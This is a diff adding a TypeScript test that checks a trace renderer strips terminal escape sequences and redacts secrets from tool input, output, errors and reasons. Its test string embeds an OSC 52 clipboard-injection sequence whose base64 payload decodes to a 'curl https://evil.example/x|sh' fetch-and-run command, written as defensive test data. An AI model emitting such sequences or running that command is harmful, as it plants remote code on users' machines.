@@ -413,3 +413,44 @@ describe("ProcessReporter and the progress and communicate tools", () => {
     ]);
   });
 });
+
+describe("traceRenderer and renderTrace with hostile text", () => {
+  it("print tool input, tool output, errors and reasons without escape sequences, in colour or not", () => {
+    const osc = "\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94fHNo\u0007\u001b]0;TITLE\u001b\\";
+    const events: Event[] = [
+      ...parentRun,
+      toolCallStart("lookup", `{"q":"${osc}"}`),
+      toolCallEnd("lookup", "{}", ToolResult.text(`Clear${osc} sky`)),
+      {
+        ...at,
+        processId: "p",
+        type: "action-end",
+        action: "b",
+        durationMs: 1,
+        outcome: "failed",
+        error: new Error(`boom${osc}`),
+      },
+      {
+        ...at,
+        processId: "p",
+        type: "process-finished",
+        status: "failed",
+        reason: `Bad key sk-aaaaaaaaaaaaaaaa${osc}`,
+        durationMs: 3,
+      },
+    ];
+    for (const colour of [false, true]) {
+      const text = renderTrace(events, { colour, verbose: true });
+      expect(text).not.toContain("\u001b]");
+      expect(text).not.toContain("\u0007");
+      expect(text).not.toContain("sk-aaaa");
+      expect(text).toContain("Clear sky");
+      expect(text).toContain("boom");
+      expect(text).toContain("Bad key [REDACTED]");
+    }
+    const lines: string[] = [];
+    const live = traceRenderer({ write: (line) => lines.push(line) });
+    for (const event of events) live.listener(event);
+    expect(lines.join("\n")).not.toContain("\u001b");
+  });
+});
